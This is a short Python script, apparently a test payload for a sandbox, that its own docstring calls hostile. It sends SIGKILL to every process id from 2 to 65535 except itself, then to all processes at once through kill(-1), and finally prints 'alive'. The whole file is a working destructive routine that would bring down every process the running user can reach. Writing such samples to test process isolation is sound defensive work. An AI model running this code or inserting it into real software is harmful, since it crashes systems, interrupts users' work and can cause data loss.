"""A hostile payload: kills everything that it can, by name and at large, and says that it lives."""

# ruff: noqa: PTH
import os
import signal

for number in range(2, 65536):
    if number != os.getpid():
        try:
            os.kill(number, signal.SIGKILL)
        except OSError:
            continue
try:
    os.kill(-1, signal.SIGKILL)
except ProcessLookupError:  # there was nobody left
    pass
print("alive")
